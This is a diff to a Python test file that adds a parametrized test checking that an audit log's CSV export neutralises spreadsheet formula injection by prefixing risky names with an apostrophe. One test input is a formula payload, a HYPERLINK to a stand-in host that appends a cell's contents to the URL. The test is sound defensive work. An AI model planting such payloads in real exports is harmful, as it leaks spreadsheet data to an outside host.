@@ -3,7 +3,10 @@ from __future__ import annotations
 import codecs
 import csv
 import datetime as dt
+import io
 from pathlib import Path
+
+import pytest
 
 from app.storage.db import Database, head_revision
 from app.storage.repositories import StateRepository
@@ -53,6 +56,20 @@ def test_csv_export_has_a_bom_and_keeps_vietnamese(tmp_path: Path) -> None:
     assert rows[1][1] == "Trần Thị Bình"
     assert "Đã mở khóa chế độ kỹ thuật" in rows[1][4]
     assert rows[1][0] == T0.isoformat()
+    db.close()
+
+
+@pytest.mark.parametrize("typed", ["=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")", "+84903112233", "-1+1",
+                                   "@SUM(A1:A2)", "\tTab", "\rCR"])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path, typed: str) -> None:
+    # OWASP "CSV Injection": a cell starting with =, +, -, @, tab or CR is a formula to Excel and LibreOffice;
+    # the technician's name in a remote session is typed at the shop. A leading apostrophe makes it text.
+    db, _ = Database.open(tmp_path / "app.sqlite3")
+    log = AuditLog(db, FixedClock(T0))
+    log.record(typed, "remote_session", "ok")
+    text, _count = log.csv_text()
+    (row,) = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    assert row[1] == "'" + typed
     db.close()
 
 
